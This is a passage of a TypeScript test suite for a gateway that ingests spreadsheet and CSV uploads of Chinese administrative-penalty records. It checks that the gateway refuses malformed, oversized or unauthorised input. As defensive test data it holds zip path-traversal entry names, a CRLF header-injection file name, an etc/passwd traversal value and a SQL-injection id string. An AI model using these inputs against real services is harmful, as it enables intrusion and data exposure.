    expect(rows.find((r) => r?.includes(key))![j], 'a formula cell is written back as its cached value').toBe('昆山市市场监督管理局');
  });
});

// =============================================================================================

describe('sheets and rows', () => {
  it('a workbook whose only sheet has unrelated headings → 422 GW_UPLOAD_SHEET_NOT_FOUND', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('工资表');
    ws.addRow(['姓名', '工号', '部门', '应发工资']);
    ws.addRow(['张三', '001', '办公室', '8000']);
    await expectRefused(Buffer.from(await wb.xlsx.writeBuffer()), XLSX, { status: 422, code: 'GW_UPLOAD_SHEET_NOT_FOUND' });
  });

  it('borderline, taken: an unrelated first sheet and the template sheet second (the first matching sheet in workbook order is read)', async () => {
    const file = await keysXlsx([penaltyRow(newKey('second-sheet'))], {
      before: (wb) => {
        const ws = wb.addWorksheet('说明');
        ws.addRow(['填报说明']);
        ws.addRow(['请在第二个工作表填写']);
      },
    });
    const { upload: u } = await uploadAndWait(A, file, XLSX);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
  });

  it('a heading row with merged cells → 422 GW_UPLOAD_MERGED_HEADER', async () => {
    const file = await keysXlsx([penaltyRow(newKey('merged'))], {
      after: (ws) => ws.mergeCells(1, KEYS.length, 1, KEYS.length + 1),
    });
    expect(readZip(file).find((e) => e.name === 'xl/worksheets/sheet1.xml')!.data.toString()).toContain('<mergeCell ');
    await expectRefused(file, XLSX, { status: 422, code: 'GW_UPLOAD_MERGED_HEADER' });
  });

  it('template layout (Chinese headings row 1, keys row 2) with two Chinese headings merged → 422 GW_UPLOAD_MERGED_HEADER', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('行政处罚');
    ws.addRow(HEADINGS);
    ws.addRow(KEYS);
    ws.addRow(asCells(penaltyRow(newKey('merged-tpl'))));
    ws.mergeCells(1, 1, 1, 2);
    await expectRefused(Buffer.from(await wb.xlsx.writeBuffer()), XLSX, { status: 422, code: 'GW_UPLOAD_MERGED_HEADER' });
  });

  it('a sheet whose <dimension> says A1:Z1048576 (two real rows) → 413 GW_UPLOAD_TOO_MANY_ROWS', async () => {
    const file = rezip(await validXlsx('dimension'), (parts) => {
      const xml = partText(parts, 'xl/worksheets/sheet1.xml');
      expect(xml).toMatch(/<dimension ref="[^"]*"\/>/);
      return setPart(parts, 'xl/worksheets/sheet1.xml', xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:Z1048576"/>'));
    });
    await expectRefused(file, XLSX, { status: 413, code: 'GW_UPLOAD_TOO_MANY_ROWS' });
  });

  it('a sheet with 1,048,576 <row> elements (dimension lying small) → 413 GW_UPLOAD_TOO_MANY_ROWS, quickly', async () => {
    const { file, ratio } = await bigSheetXlsx(1_048_575, { dimension: 'A1:AO2' });
    expect(ratio, 'precondition: not a compression-ratio bomb').toBeLessThan(200);
    expect(file.length).toBeLessThan(64 * MiB);
    const t0 = Date.now();
    await expectRefused(file, XLSX, { status: 413, code: 'GW_UPLOAD_TOO_MANY_ROWS' });
    expect(Date.now() - t0, 'two refusals of a 1,048,576-row sheet').toBeLessThan(30_000);
  });

  it('1,048,576 <row> elements without r attributes and without <dimension> → 413 GW_UPLOAD_TOO_MANY_ROWS', async () => {
    const { file, ratio } = await bigSheetXlsx(1_048_575, { withR: false });
    expect(ratio, 'precondition: not a compression-ratio bomb').toBeLessThan(200);
    await expectRefused(file, XLSX, { status: 413, code: 'GW_UPLOAD_TOO_MANY_ROWS' });
  });

  it('one data row over maxRows: 200,001 data rows → 413 GW_UPLOAD_TOO_MANY_ROWS', async () => {
    const { file, ratio } = await bigSheetXlsx(200_001, {});
    expect(ratio).toBeLessThan(200);
    await expectRefused(file, XLSX, { status: 413, code: 'GW_UPLOAD_TOO_MANY_ROWS' });
  });

  it('a CSV with 250,000 data lines (500 KB) → 413 GW_UPLOAD_TOO_MANY_ROWS within 10 s ("stop the pre-pass at once", "costs nothing to refuse")', async () => {
    const line = Buffer.from('x\n');
    const body = Buffer.concat([Buffer.from(KEYS.join(',') + '\n'), Buffer.alloc(line.length * 250_000, line)]);
    const before = await counts();
    const target = '/v1/uploads?category=admin_penalty';
    const { headers } = signedHeaders(A, 'POST', target, { rawBody: body, contentType: CSV });
    const gaps = loopGapMonitor();
    const t0 = Date.now();
    const pending = request(gw.url, { method: 'POST', path: target, headers, body, timeoutMs: 60_000 }).catch((e: unknown) => e as Error);
    const sleep = (ms: number) => new Promise<Error>((r) => setTimeout(() => r(new Error(`no answer within ${ms} ms`)), ms));
    const ans = await Promise.race([pending, sleep(10_000)]);
    const took = Date.now() - t0;
    console.info(`[csv 250,000 lines] ${ans instanceof Error ? ans.message : `${ans.status} ${ans.json?.code}`} after ${took} ms`);
    if (ans instanceof Error) {
      // wait a while longer for the eventual answer (so it stays out of the next tests), and see what was kept
      const late = await Promise.race([pending, sleep(25_000)]);
      const worst = gaps.stop();
      await waitReady(5_000);
      const after = await counts();
      expect.fail(
        `no answer within 10 s to a 500 KB CSV of 250,000 lines (expected 413 GW_UPLOAD_TOO_MANY_ROWS at once); ` +
          `then ${late instanceof Error ? late.message : `${late.status} ${late.json?.code} after ${Date.now() - t0} ms`}; ` +
          `the event loop (gateway and test share it) stood still for up to ${worst} ms at a time; records ${before.records}→${after.records}, uploads ${before.uploads}→${after.uploads}`,
      );
    }
    const worst = gaps.stop();
    console.info(`[csv 250,000 lines] event loop stood still for up to ${worst} ms`);
    await expectSignedProblem(gw.url, ans, 413, 'GW_UPLOAD_TOO_MANY_ROWS');
    expect(await counts()).toEqual(before);
  }, 60_000);

  it('a CSV with 200,001 data rows → 413 GW_UPLOAD_TOO_MANY_ROWS (and how long the event loop stands still)', async () => {
    const line = Buffer.from('x\n');
    const body = Buffer.concat([Buffer.from(KEYS.join(',') + '\n'), Buffer.alloc(line.length * 200_001, line)]);
    const gaps = loopGapMonitor();
    const t0 = Date.now();
    await expectRefused(body, CSV, { status: 413, code: 'GW_UPLOAD_TOO_MANY_ROWS' }).finally(() => gaps.stop());
    const took = Date.now() - t0;
    const worst = gaps.stop();
    console.info(`[csv 200,001 rows] two refusals of a ${body.length}-byte CSV took ${took} ms; the event loop stood still for up to ${worst} ms`);
    // README: rows past the limit "stop the pre-pass at once"; the gateway must stay healthy meanwhile
    expect.soft(took, 'two refusals of a 400 KB CSV one row over maxRows').toBeLessThan(10_000);
    expect.soft(worst, 'longest stand-still of the gateway\'s event loop while refusing it').toBeLessThan(2_000);
  });
});

// =============================================================================================

const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex'), Buffer.alloc(64, 7)]);
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024 - 8)]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

describe('content that is not what the content type says: 415', () => {
  const mismatch: [string, () => Promise<Buffer> | Buffer, string][] = [
    ['PNG bytes as XLSX', () => PNG, XLSX],
    ['an XLS (OLE compound file) as XLSX', () => OLE, XLSX],
    ['a PDF as XLSX', () => PDF, XLSX],
    ['a CSV as XLSX', () => keysCsv([penaltyRow(newKey('csv-as-xlsx'))]), XLSX],
    ['a zip without [Content_Types].xml', async () => rezip(await validXlsx('no-ct'), (p) => p.filter((e) => e.name !== '[Content_Types].xml')), XLSX],
    ['a zip without xl/workbook.xml', async () => rezip(await validXlsx('no-wb'), (p) => p.filter((e) => e.name !== 'xl/workbook.xml')), XLSX],
    ['an XLSX (zip) as text/csv', () => validXlsx('zip-as-csv'), CSV],
    ['an XLS (OLE) as text/csv', () => OLE, CSV],
    ['a PDF as text/csv', () => PDF, CSV],
    ['PNG bytes as text/csv', () => PNG, CSV],
    ['a gzipped CSV as text/csv', () => gzipSync(keysCsv([penaltyRow(newKey('gz'))])), CSV],
    [
      'a CSV with NUL bytes',
      () => {
        const row = penaltyRow(newKey('nul'));
        row['data.CF_SY'] = 'abc\u0000def';
        return keysCsv([row]);
      },
      CSV,
    ],
    ['a CSV that is mostly control characters', () => Buffer.concat([Buffer.from(KEYS.join(',') + '\n'), Buffer.from(Array.from({ length: 4096 }, (_, i) => 1 + (i % 8)))]), CSV],
  ];
  for (const [name, build, ct] of mismatch) {
    it(`${name} → 415 GW_UPLOAD_TYPE_MISMATCH`, async () => {
      await expectRefused(await build(), ct, { status: 415, code: 'GW_UPLOAD_TYPE_MISMATCH' });
    });
  }

  const unsupported: [string, string | null][] = [
    ['image/png', 'image/png'],
    ['application/vnd.ms-excel (XLS)', 'application/vnd.ms-excel'],
    ['application/pdf', 'application/pdf'],
    ['application/json', 'application/json'],
    ['multipart/form-data (README: multipart is not taken)', 'multipart/form-data; boundary=xyz'],
    ['no content type at all', null],
  ];
  for (const [name, ct] of unsupported) {
    it(`content type ${name} → 415 GW_UPLOAD_TYPE_UNSUPPORTED`, async () => {
      await expectRefused(keysCsv([penaltyRow(newKey('ct'))]), ct, { status: 415, code: 'GW_UPLOAD_TYPE_UNSUPPORTED' });
    });
  }

  // An empty body is "not a zip" (415 GW_UPLOAD_TYPE_MISMATCH, README's upload table) and also an empty
  // body (400 GW_BODY_EMPTY, docs/architecture.md's general table): either documented refusal will do.
  for (const ct of [XLSX, CSV]) {
    it(`an empty body as ${ct === XLSX ? 'XLSX' : 'text/csv'} → 415 GW_UPLOAD_TYPE_MISMATCH or 400 GW_BODY_EMPTY, nothing kept`, async () => {
      const before = await counts();
      for (const lang of ['zh-CN', 'en']) {
        const ans = await upload(A, Buffer.alloc(0), ct, { lang });
        expect([
          [415, 'GW_UPLOAD_TYPE_MISMATCH'],
          [400, 'GW_BODY_EMPTY'],
        ], show(ans)).toContainEqual([ans.status, ans.json?.code]);
        await expectSignedProblem(gw.url, ans, ans.status, ans.json.code);
        expectLanguage(ans, lang);
      }
      expect(await counts()).toEqual(before);
    });
  }
});

// =============================================================================================

describe('damaged and unsafe zips: 422 GW_UPLOAD_ZIP_INVALID', () => {
  const cases: [string, (xlsx: Buffer) => Buffer][] = [
    ['a part named ../../evil.xml', (x) => rezip(x, (p) => [...p, { name: '../../evil.xml', data: Buffer.from('<x/>') }])],
    ['a part named xl/../../evil.xml', (x) => rezip(x, (p) => [...p, { name: 'xl/../../evil.xml', data: Buffer.from('<x/>') }])],
    ['an absolute part name /etc/cron.d/evil', (x) => rezip(x, (p) => [...p, { name: '/etc/cron.d/evil', data: Buffer.from('x') }])],
    ['a Windows-style ..\\..\\evil.xml part name', (x) => rezip(x, (p) => [...p, { name: '..\\..\\evil.xml', data: Buffer.from('<x/>') }])],
    ['the sheet renamed to ../ in the local header only', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, localName: '../../xl/worksheets/sheet1.xml' } : e)))],
    ['an encrypted entry (flag bit 0 on the sheet)', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, flags: 1 } : e)))],
    ['a zip64 entry (sizes 0xFFFFFFFF, zip64 extra field)', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, zip64: true } : e)))],
    ['an unknown compression method (99, AES) on the sheet', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, method: 99, compressed: deflateRawSync(e.data!) } : e)))],
    ['an unknown compression method (14, LZMA) on sharedStrings', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/sharedStrings.xml' ? { ...e, method: 14, compressed: deflateRawSync(e.data!) } : e)))],
    ['truncated to 60 % (no central directory)', (x) => rezip(x).subarray(0, Math.floor(rezip(x).length * 0.6))],
    ['truncated by its last 10 bytes (end record cut)', (x) => rezip(x).subarray(0, rezip(x).length - 10)],
    ['a central directory cut in half', (x) => writeZip(readZip(x).filter((e) => !e.name.endsWith('/')).map((e) => ({ name: e.name, data: e.data })), { truncateCentral: true })],
    ['a wrong CRC-32 on the sheet', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, crc: (crc32(e.data!) ^ 0xdeadbeef) >>> 0 } : e)))],
    ['deflate data that is garbage', (x) => rezip(x, (p) => p.map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { ...e, compressed: Buffer.alloc(e.data!.length >> 2, 0xff) } : e)))],
  ];
  for (const [name, tamper] of cases) {
    it(name, async () => {
      await expectRefused(tamper(await validXlsx('zip-invalid')), XLSX, { status: 422, code: 'GW_UPLOAD_ZIP_INVALID' });
    });
  }
});

// =============================================================================================

/** National 双公示 headings (Chinese names, README's own examples) with the row's values. */
function nationalRows(rows: { key: string; uscc: string; name: string }[], halfWidth = false): string[][] {
  const fk = halfWidth ? '罚款金额(万元)' : '罚款金额（万元）';
  const head = ['行政相对人名称', '行政相对人类别', '统一社会信用代码', '法定代表人', '行政处罚决定书文号', '违法行为类型', '违法事实', '处罚依据', '处罚类别', '处罚内容', fk, '处罚决定日期', '处罚机关', '数据来源单位'];
  return [
    head,
    ...rows.map((r) => [r.name, '法人及非法人组织', r.uscc, '李某', r.key, '未按规定公示年度报告', '当事人未按规定期限公示2023年度报告。', '《企业信息公示暂行条例》第十八条', '罚款', '罚款人民币1万元。', '1', '2024-04-02', '昆山市市场监督管理局', '昆山市市场监督管理局']),
  ];
}

describe('CSV borderline', () => {
  it('GB18030 with national 双公示 headings, charset given → TAKEN (positive control); feedback in GB18030', async () => {
    const uscc = makeUscc('91', '320583', ++subj);
    const key = `昆市监罚〔2024〕国标-${++keySerial}号`;
    const body = iconv.encode(csvText(nationalRows([{ key, uscc, name: `国标上传${subj}有限公司` }]), '\r\n'), 'gb18030');
    const { upload: u } = await uploadAndWait(A, body, 'text/csv; charset=GB18030');
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
    expect(String(u.encoding).toLowerCase()).toContain('gb');
    const f = await feedback(A, u.id);
    const text = iconv.decode(f.raw, 'gb18030');
    expect(text, 'the feedback is GB18030 like the upload').toContain('处理结果');
    expect(text).toContain('行政相对人名称');
    expect(text).toContain('已入库（新增）');
  });

  it('GB18030 without a charset (not valid UTF-8 → GB18030), half-width brackets in 罚款金额(万元) → TAKEN', async () => {
    const uscc = makeUscc('91', '320583', ++subj);
    const key = `昆市监罚〔2024〕国标半角-${++keySerial}号`;
    const body = iconv.encode(csvText(nationalRows([{ key, uscc, name: `国标半角${subj}有限公司` }], true)), 'gb18030');
    const { upload: u } = await uploadAndWait(A, body, CSV);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
  });

  it('UTF-8 with a BOM, template layout (Chinese headings, keys, the rules row 3 skipped) → TAKEN', async () => {
    const body = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csvText([HEADINGS, KEYS, RULES, asCells(penaltyRow(newKey('bom')))]))]);
    const { upload: u } = await uploadAndWait(A, body, 'text/csv; charset=utf-8');
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.stored, JSON.stringify(u)).toBe(1);
    expect(u.rejected, 'the rules row is skipped, not rejected').toBe(0);
  });

  it('LF, then the same rows with CRLF → stored, then 未变更 (no CR leaks into the last column)', async () => {
    const rows = [penaltyRow(newKey('eol-1')), penaltyRow(newKey('eol-2'))];
    const lf = await uploadAndWait(A, keysCsv(rows, '\n'), CSV);
    expect(lf.upload.state).toBe('done');
    expect(lf.upload.stored, JSON.stringify(lf.upload)).toBe(2);
    const crlf = await uploadAndWait(A, keysCsv(rows, '\r\n'), CSV);
    expect(crlf.upload.state).toBe('done');
    expect(crlf.upload.unchanged, JSON.stringify(crlf.upload)).toBe(2);
    expect(crlf.upload.stored).toBe(0);
  });

  it('a 10 MB single cell: taken, the row rejected on its own (违法事实 at most 2,000 characters), the gateway unharmed', async () => {
    const row = penaltyRow(newKey('10mb'));
    row['data.CF_SY'] = '违'.repeat(3_400_000); // ≈ 10 MB in UTF-8
    const good = penaltyRow(newKey('10mb-good'));
    const before = await counts();
    const { upload: u } = await uploadAndWait(A, keysCsv([row, good]), CSV);
    expect(u.state, JSON.stringify(u)).toBe('done');
    expect(u.rejected, JSON.stringify(u)).toBe(1);
    expect(u.stored, JSON.stringify(u)).toBe(1);
    expect((await counts()).records).toBe(before.records + 1);
  });

  it('a quote that never closes → 422 GW_UPLOAD_CSV_INVALID, nothing kept (not even the good row before it)', async () => {
    const good = asCells(penaltyRow(newKey('quote-good')));
    const bad = asCells(penaltyRow(newKey('quote-bad')));
    const text = csvText([KEYS, good]) + bad.slice(0, 5).map(csvCell).join(',') + ',"这一格的引号永远不会闭合,' + 'x'.repeat(1000) + '\n';
    await expectRefused(Buffer.from(text), CSV, { status: 422, code: 'GW_UPLOAD_CSV_INVALID' });
  });

  it('a charset parameter lying: UTF-8 bytes of Chinese national headings labelled GB18030 → 422 GW_UPLOAD_SHEET_NOT_FOUND (the charset wins)', async () => {
    const body = Buffer.from(csvText(nationalRows([{ key: `昆市监罚〔2024〕谎称-${++keySerial}号`, uscc: makeUscc('91', '320583', ++subj), name: '谎称编码有限公司' }])), 'utf8');
    await expectRefused(body, 'text/csv; charset=GB18030', { status: 422, code: 'GW_UPLOAD_SHEET_NOT_FOUND' });
  });

  it('a charset parameter lying: GB18030 bytes labelled UTF-8 → 422 GW_UPLOAD_SHEET_NOT_FOUND (the charset wins)', async () => {
    const body = iconv.encode(csvText(nationalRows([{ key: `昆市监罚〔2024〕谎称U-${++keySerial}号`, uscc: makeUscc('91', '320583', ++subj), name: '谎称编码二有限公司' }])), 'gb18030');
    await expectRefused(body, 'text/csv; charset=utf-8', { status: 422, code: 'GW_UPLOAD_SHEET_NOT_FOUND' });
  });

  it('an unknown charset (x-no-such-charset): never a 5xx; refused whole, or taken with the encoding it used reported (README is silent: see report)', async () => {
    const before = await counts();
    const ans = await upload(A, keysCsv([penaltyRow(newKey('bogus-cs'))]), 'text/csv; charset=x-no-such-charset');
    console.info(`[unknown charset] ${show(ans)}`);
    expect(ans.status, show(ans)).toBeLessThan(500);
    if (ans.status === 202) {
      expect(typeof ans.json.encoding, 'the encoding actually used is reported').toBe('string');
      const u = await poll(gw, A, ans.json.id);
      console.info(`[unknown charset] ended ${u.state}, encoding ${u.encoding}, stored ${u.stored}`);
      expect(['done', 'failed']).toContain(u.state);
    } else {
      await expectSignedProblem(gw.url, ans, ans.status, /^GW_/);
      expect(await counts()).toEqual(before);
    }
  });
});

// =============================================================================================

/** Sends an over-limit upload over a raw socket (Content-Length or chunked). */
async function streamUpload(body: Buffer, lang: string, chunked: boolean): Promise<Answer> {
  const target = '/v1/uploads?category=admin_penalty';
  const { headers } = signedHeaders(A, 'POST', target, { rawBody: body, contentType: CSV, headers: { 'accept-language': lang } });
  let wire = body;
  const lines = [`POST ${target} HTTP/1.1`, `Host: ${new URL(gw.url).host}`, 'Connection: close'];
  if (chunked) {
    const parts: Buffer[] = [];
    for (let off = 0; off < body.length; off += MiB) {
      const slice = body.subarray(off, off + MiB);
      parts.push(Buffer.from(`${slice.length.toString(16)}\r\n`), slice, Buffer.from('\r\n'));
    }
    parts.push(Buffer.from('0\r\n\r\n'));
    wire = Buffer.concat(parts);
    lines.push('Transfer-Encoding: chunked');
  } else lines.push(`Content-Length: ${body.length}`);
  for (const [k, v] of Object.entries(headers)) lines.push(`${k}: ${String(v)}`);
  const head = Buffer.from(lines.join('\r\n') + '\r\n\r\n');
  // the head first: a server may refuse on the Content-Length alone within 1.5 s; else the body, until an answer starts
  const { stream, note } = await rawSocketExchange(gw.url, head, wire, { headAloneMs: 1500, sliceBytes: 256 * 1024, quietMs: 2000, timeoutMs: 40_000 });
  const res = parseResponses(stream)[0];
  expect(res, `an answer to a ${body.length}-byte upload (${note}; got ${JSON.stringify(stream.slice(0, 200))})`).toBeDefined();
  const text = res!.body.toString('utf8');
  const hdrs: Record<string, string> = {};
  for (const [k, v] of Object.entries(res!.headers)) hdrs[k] = v.join(', ');
  let json: any;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: res!.status, headers: hdrs, raw: res!.body, text, json };
}

describe('HTTP borderline', () => {
  it('a body one byte over maxBytes (64 MiB) with Content-Length → 413 GW_BODY_TOO_LARGE, nothing kept', async () => {
    const body = Buffer.alloc(64 * MiB + 1, 0x61);
    const before = await counts();
    for (const lang of ['zh-CN', 'en']) {
      const ans = await streamUpload(body, lang, false);
      await expectSignedProblem(gw.url, ans, 413, 'GW_BODY_TOO_LARGE');
      expectLanguage(ans, lang);
    }
    expect(await counts()).toEqual(before);
  });

  it('a chunked body (no Content-Length) over maxBytes → 413 GW_BODY_TOO_LARGE, nothing kept', async () => {
    const body = Buffer.alloc(65 * MiB, 0x61);
    const before = await counts();
    const ans = await streamUpload(body, 'zh-CN', true);
    await expectSignedProblem(gw.url, ans, 413, 'GW_BODY_TOO_LARGE');
    expectLanguage(ans, 'zh-CN');
    expect(await counts()).toEqual(before);
  });

  it('a hostile fileName (CRLF header injection, path traversal) never reaches the feedback\'s headers', async () => {
    for (const fileName of ['a%0D%0ASet-Cookie%3A%20gw%3D1%0D%0AX-Evil%3A%201.csv', '..%2F..%2F..%2Fetc%2Fpasswd', '%22%3B%20filename%3D%22evil.exe']) {
      const before = await counts();
      const ans = await upload(A, keysCsv([penaltyRow(newKey('fname'))]), CSV, { query: `category=admin_penalty&fileName=${fileName}` });
      expect(ans.status, `${fileName}: ${show(ans)}`).toBeLessThan(500);
      if (ans.status !== 202) {
        await expectSignedProblem(gw.url, ans, 400, 'GW_REQUEST_INVALID');
        expect(await counts()).toEqual(before);
        continue;
      }
      const u = await poll(gw, A, ans.json.id);
      expect(u.state).toBe('done');
      const f = await feedback(A, ans.json.id);
      console.info(`[fileName ${fileName}] content-disposition: ${String(f.headers['content-disposition'])}`);
      expect(f.headers['set-cookie'], 'no injected header').toBeUndefined();
      expect(f.headers['x-evil'], 'no injected header').toBeUndefined();
      const cd = String(f.headers['content-disposition'] ?? '');
      expect(cd).not.toMatch(/[\r\n]/);
      expect(cd, 'no second filename smuggled in').not.toMatch(/filename="?evil\.exe/);
      expect(cd, 'no path in the file name').not.toMatch(/filename="?[^";]*\.\.\//);
    }
  });

  it('missing category → 400 GW_REQUEST_INVALID', async () => {
    await expectRefused(keysCsv([penaltyRow(newKey('nocat'))]), CSV, { status: 400, code: 'GW_REQUEST_INVALID', query: 'fileName=x.csv' });
  });

  it('empty category → 400 GW_REQUEST_INVALID', async () => {
    await expectRefused(keysCsv([penaltyRow(newKey('emptycat'))]), CSV, { status: 400, code: 'GW_REQUEST_INVALID', query: 'category=' });
  });

  it('unknown category (a partner granted every category) is refused, nothing kept (README names no code: see report)', async () => {
    const before = await counts();
    for (const query of ['category=no_such_category', 'category=..%2F..%2Fetc%2Fpasswd', 'category=admin_penalty&category=dishonest_debtor']) {
      const ans = await upload(Z, keysCsv([penaltyRow(newKey('unknowncat'))]), CSV, { query });
      console.info(`[unknown category ${query}] ${ans.status} ${ans.json?.code}`);
      expect([400, 404], `${query}: ${show(ans)}`).toContain(ans.status);
      expect(['GW_REQUEST_INVALID', 'GW_SCHEMA_NOT_FOUND'], `${query}: ${show(ans)}`).toContain(ans.json?.code);
    }
    expect(await counts()).toEqual(before);
  });

  it('a category outside the partner\'s grant → 403 GW_AUTH_GRANT_MISSING', async () => {
    await expectRefused(keysCsv([penaltyRow(newKey('grant'))]), CSV, { status: 403, code: 'GW_AUTH_GRANT_MISSING', query: 'category=dishonest_debtor' });
    await expectRefused(await validXlsx('grant-x'), XLSX, { status: 403, code: 'GW_AUTH_GRANT_MISSING', query: 'category=admin_license' });
  });

  it('a sourceSystem not its own (another agency\'s, a connector\'s) → 403 GW_AUTH_SOURCE_NOT_OWNED', async () => {
    await expectRefused(keysCsv([penaltyRow(newKey('src'))]), CSV, { status: 403, code: 'GW_AUTH_SOURCE_NOT_OWNED', query: 'category=admin_penalty&sourceSystem=scjg.taicang' });
    await expectRefused(keysCsv([penaltyRow(newKey('src2'))]), CSV, { status: 403, code: 'GW_AUTH_SOURCE_NOT_OWNED', query: 'category=admin_penalty&sourceSystem=zxgk.court' });
  });

  it('a partner with several source systems and no sourceSystem → 400, nothing kept', async () => {
    const before = await counts();
    const ans = await upload(M, keysCsv([penaltyRow(newKey('multi'))]), CSV);
    await expectSignedProblem(gw.url, ans, 400, /^GW_/);
    expect(await counts()).toEqual(before);
  });

  it('a partner without records:write → 403, unsigned → 401, nothing kept', async () => {
    const before = await counts();
    const ro = await upload(RO, keysCsv([penaltyRow(newKey('ro'))]), CSV);
    await expectSignedProblem(gw.url, ro, 403, /^GW_AUTH_/);
    const body = keysCsv([penaltyRow(newKey('unsigned'))]);
    const un = await request(gw.url, { method: 'POST', path: '/v1/uploads?category=admin_penalty', headers: { 'content-type': CSV }, body });
    await expectSignedProblem(gw.url, un, 401, /^GW_AUTH_/);
    expect(await counts()).toEqual(before);
  });

  it('another partner\'s upload: GET and its feedback are 404 GW_UPLOAD_NOT_FOUND', async () => {
    const { accepted, upload: u } = await uploadAndWait(A, keysCsv([penaltyRow(newKey('mine'))]), CSV);
    expect(u.state).toBe('done');
    const id = accepted.json.id as string;
    const g = await signed(gw.url, B, 'GET', `/v1/uploads/${id}`, { headers: { 'accept-language': 'zh-CN' } });
    await expectSignedProblem(gw.url, g, 404, 'GW_UPLOAD_NOT_FOUND');
    expectLanguage(g, 'zh-CN');
    const f = await signed(gw.url, B, 'GET', `/v1/uploads/${id}/feedback`, { headers: { 'accept-language': 'en' } });
    await expectSignedProblem(gw.url, f, 404, 'GW_UPLOAD_NOT_FOUND');
    expectLanguage(f, 'en');
    expect(f.text).not.toContain('处理结果');
    // the owner still sees it
    const own = await signed(gw.url, A, 'GET', `/v1/uploads/${id}`);
    expect(own.status).toBe(200);
  });

  it('an unknown well-formed id → 404 GW_UPLOAD_NOT_FOUND', async () => {
    const ans = await signed(gw.url, A, 'GET', '/v1/uploads/6f1c7a52-3c1e-4d6e-9a8b-0c2d4e6f8a10');
    await expectSignedProblem(gw.url, ans, 404, 'GW_UPLOAD_NOT_FOUND');
    const fb = await signed(gw.url, A, 'GET', '/v1/uploads/6f1c7a52-3c1e-4d6e-9a8b-0c2d4e6f8a10/feedback');
    await expectSignedProblem(gw.url, fb, 404, 'GW_UPLOAD_NOT_FOUND');
  });

  it('malformed ids → 400 GW_REQUEST_INVALID or 404 GW_UPLOAD_NOT_FOUND, never 5xx', async () => {
    const ids = ['not-a-uuid', '1', `${'a'.repeat(2000)}`, '%27%20OR%20%271%27%3D%271', '..%2F..%2Frecords', '%00', '6f1c7a52-3c1e-4d6e-9a8b-0c2d4e6f8a10%00', '-1', '%E4%B8%AD'];
    for (const id of ids) {
      for (const suffix of ['', '/feedback']) {
        const ans = await signed(gw.url, A, 'GET', `/v1/uploads/${id}${suffix}`);
        const what = `${id.slice(0, 60)}${suffix}: ${show(ans).slice(0, 300)}`;
        expect.soft([[400, 'GW_REQUEST_INVALID'], [404, 'GW_UPLOAD_NOT_FOUND'], [414, 'GW_URL_TOO_LONG']], what).toContainEqual([ans.status, ans.json?.code]);
        expect.soft(isProblem(ans), what).toBe(true);
        expect.soft((await checkAnswerSignature(gw.url, ans)).ok, `signed: ${what}`).toBe(true);
      }
    }
  });

  it('feedback before done → 409 GW_UPLOAD_NOT_FINISHED (a gateway whose worker is off)', async () => {
    const before = await counts(idle);
    const ans = await signed(idle.url, A, 'POST', '/v1/uploads?category=admin_penalty&fileName=%E5%BE%85%E5%A4%84%E7%90%86.csv', { rawBody: keysCsv([penaltyRow(newKey('queued'))]), contentType: CSV });
    expect(ans.status, show(ans)).toBe(202);
    expect(ans.json.state).toBe('queued');
    expect(ans.json.links?.feedback).toBe(`/v1/uploads/${ans.json.id}/feedback`);
    const sig = await checkAnswerSignature(idle.url, ans);
    expect(sig.ok, sig.reason).toBe(true);
    for (const lang of ['zh-CN', 'en']) {
      const fb = await signed(idle.url, A, 'GET', `/v1/uploads/${ans.json.id}/feedback`, { headers: { 'accept-language': lang } });
      await expectSignedProblem(idle.url, fb, 409, 'GW_UPLOAD_NOT_FINISHED');
      expectLanguage(fb, lang);
    }
    const s = await signed(idle.url, A, 'GET', `/v1/uploads/${ans.json.id}`);
    expect(s.json.state).toBe('queued');
    const after = await counts(idle);
    expect(after.records, 'nothing stored while queued').toBe(before.records);
    expect(after.uploads).toBe(before.uploads + 1);
    await expectReady(idle);
  });
});

// =============================================================================================

describe('after all of it', () => {
  it('the gateway is ready and a valid small upload still works (XLSX and CSV)', async () => {
    await expectReady();
    const before = await counts();
    const x = await uploadAndWait(A, await validXlsx('final-x'), XLSX);
    expect(x.upload.state, JSON.stringify(x.upload)).toBe('done');
    expect(x.upload.stored).toBe(1);
    const c = await uploadAndWait(A, keysCsv([penaltyRow(newKey('final-c'))]), CSV);
    expect(c.upload.state, JSON.stringify(c.upload)).toBe('done');
    expect(c.upload.stored).toBe(1);
    expect((await counts()).records).toBe(before.records + 2);
    const f = await feedback(A, c.accepted.json.id);
    expect(f.raw.toString('utf8')).toContain('已入库（新增）');
  });
});
